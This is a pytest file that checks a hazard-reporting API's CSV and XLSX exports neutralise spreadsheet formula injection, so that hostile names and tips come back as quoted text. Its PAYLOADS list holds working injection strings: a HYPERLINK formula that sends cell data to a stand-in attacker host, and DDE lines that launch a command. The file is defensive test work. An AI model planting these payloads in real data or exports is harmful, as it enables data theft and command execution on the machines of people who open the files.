"""Formula injection, tried the way an outsider would: a tip filed through a scanned code,
names typed by staff, then the regulator's CSV and XLSX exports read back.

A spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a tab, a carriage return or
a line feed; every such text must come back as text with a leading `'` (OWASP CSV
Injection), and no XLSX cell may be a formula.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from tests.api.hazard_helpers import scan_token, upload

# One payload per trigger character; the quote-and-separator ones come from OWASP's page.
PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?d="&A1,"查看详情")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
]
SEPARATED = "配电箱;=1+2,=3+4"  # harmless start, a formula after each separator
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
HAZARD_DESCRIPTION = 8  # column of 隐患描述 in the hazard list
HAZARD_ENTERPRISE, HAZARD_GRID = 1, 3
FIRST_ROW = 5  # of an XLSX sheet: a title, scope and period, a blank line, the header


@pytest.fixture
def hostile(client, world, auth_header):
    """Names and tips starting with every trigger, entered through the API; answers the
    texts as stored (what the export must show behind a `'`)."""
    admin = auth_header(world.admin)
    reporter = auth_header(world.reporter)

    def patch(path: str, body: dict) -> dict:
        response = client.patch(path, json=body, headers=admin)
        assert response.status_code == 200, response.get_json()
        return response.get_json()

    stored = {
        "district": patch(f"/api/v1/regions/{world.district.id}", {"name": PAYLOADS[0]})["name"],
        "street": patch(f"/api/v1/regions/{world.street_a.id}", {"name": PAYLOADS[3]})["name"],
        "grid": patch(f"/api/v1/grids/{world.grid_a.id}", {"name": PAYLOADS[1]})["name"],
        "enterprises": [],
        "descriptions": [],
    }
    for i, text in enumerate([*PAYLOADS, SEPARATED]):
        payload = f"{text} 〔{i}〕"  # unique, so each row is found by its text
        created = client.post(
            "/api/v1/enterprises",
            json={
                "credit_code": f"9135010{i}M000100Y43",
                "name": payload,
                "industry": "industry_trade",
                "risk_color": "yellow",
                "grid_id": world.grid_a.id,
            },
            headers=admin,
        )
        assert created.status_code == 201, created.get_json()
        enterprise = created.get_json()["enterprise"]
        stored["enterprises"].append(enterprise["name"])
        # The tip is public: a scanned code, the reporter's phone, no office account.
        token = scan_token(client, admin, enterprise["id"])
        tip = client.post(
            f"/api/v1/scan/{token}/hazards",
            json={
                "category": "electrical",
                "description": payload,
                "media_ids": [upload(client, reporter)],
            },
            headers=reporter,
        )
        assert tip.status_code == 201, tip.get_json()
        stored["descriptions"].append(tip.get_json()["hazard"]["description"])
    # What the attack needs: every stored text still starts a formula (input is stripped,
    # so a leading tab or line break reaches the export as the `=` behind it; the unit
    # tests of service.core.sheets cover those triggers).
    texts = [*stored["descriptions"], *stored["enterprises"]]
    texts += [stored["district"], stored["street"], stored["grid"]]
    assert all(t.startswith(TRIGGERS) for t in texts if not t.startswith(SEPARATED)), texts
    return stored


def _shown(text: str) -> str:
    """How the export must show a stored text: behind a `'` when it starts a formula."""
    return "'" + text if text.startswith(TRIGGERS) else text


def _export(client, world, auth_header, kind: str) -> bytes:
    response = client.get(
        f"/api/v1/stats/export.{kind}", headers=auth_header(world.district_supervisor)
    )
    assert response.status_code == 200, response.get_data(as_text=True)
    return response.data


def test_xlsx_export_shows_formula_text_as_text(client, world, auth_header, hostile):
    data = _export(client, world, auth_header, "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >/]", archive.read(name)), name
    workbook = load_workbook(io.BytesIO(data))  # full mode: data types as Excel sees them
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str) and c.value.startswith(TRIGGERS)}
    assert texts == set(), texts  # nothing starts a formula, even as a string
    hazards = list(workbook["隐患清单"].iter_rows(min_row=FIRST_ROW))
    described = {row[HAZARD_DESCRIPTION].value: row for row in hazards}
    for description, enterprise in zip(
        hostile["descriptions"], hostile["enterprises"], strict=True
    ):
        row = described[_shown(description)]
        assert row[HAZARD_DESCRIPTION].data_type == "s"
        assert row[HAZARD_ENTERPRISE].value == _shown(enterprise)
        assert row[HAZARD_GRID].value == _shown(hostile["grid"])
        assert row[HAZARD_GRID].data_type == "s"
    assert _shown(PAYLOADS[0]).startswith("'=")
    summary = {row[0].value: row[1] for row in workbook["汇总"].iter_rows(min_row=FIRST_ROW)}
    assert summary["统计范围"].value == _shown(hostile["district"])
    assert summary["上报隐患数"].data_type == "n"  # numbers stay numbers
    ranked = [row[2].value for row in workbook["排名"].iter_rows(min_row=FIRST_ROW)]
    assert _shown(hostile["street"]) in ranked


def test_csv_export_quotes_and_neutralises_formula_text(client, world, auth_header, hostile):
    text = _export(client, world, auth_header, "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(TRIGGERS)]
    start = rows.index(["【隐患清单】"])
    listed = {row[HAZARD_DESCRIPTION]: row for row in rows[start + 2 :]}
    for description, enterprise in zip(
        hostile["descriptions"], hostile["enterprises"], strict=True
    ):
        row = listed[_shown(description)]  # one cell each: quotes and separators stayed inside
        assert row[HAZARD_ENTERPRISE] == _shown(enterprise)
        assert row[HAZARD_GRID] == _shown(hostile["grid"])
    separated = hostile["descriptions"][-1]
    assert separated.startswith(SEPARATED) and separated in listed
    # Separators inside a value stay inside its quotes, for a `;` reader too (Excel in
    # locales whose list separator is `;`).
    assert f'"{separated}"' in text
    summary = {row[0]: row[1] for row in rows[2 : rows.index([])]}
    assert summary["统计范围"] == _shown(hostile["district"])
    ranked = [row[2] for row in rows[rows.index(["【排名】"]) + 2 :] if len(row) > 2]
    assert _shown(hostile["street"]) in ranked
    # Counts are bare numbers, text is quoted.
    assert re.search(r'^"上报隐患数",\d+\r$', text, re.M)


def test_a_tip_with_control_characters_still_exports(client, world, auth_header):
    """XML cannot carry most control characters: the XLSX shows U+FFFD, the CSV keeps them."""
    admin, reporter = auth_header(world.admin), auth_header(world.reporter)
    token = scan_token(client, admin, world.enterprise_a.id)
    description = "配电箱\x0b漏电\x1b[31m"
    tip = client.post(
        f"/api/v1/scan/{token}/hazards",
        json={
            "category": "electrical",
            "description": description,
            "media_ids": [upload(client, reporter)],
        },
        headers=reporter,
    )
    assert tip.status_code == 201, tip.get_json()
    workbook = load_workbook(io.BytesIO(_export(client, world, auth_header, "xlsx")))
    listed = workbook["隐患清单"].iter_rows(min_row=FIRST_ROW)
    described = [row[HAZARD_DESCRIPTION].value for row in listed]
    assert described == ["配电箱\ufffd漏电\ufffd[31m"]
    text = _export(client, world, auth_header, "csv").decode("utf-8-sig")
    assert f'"{description}"' in text
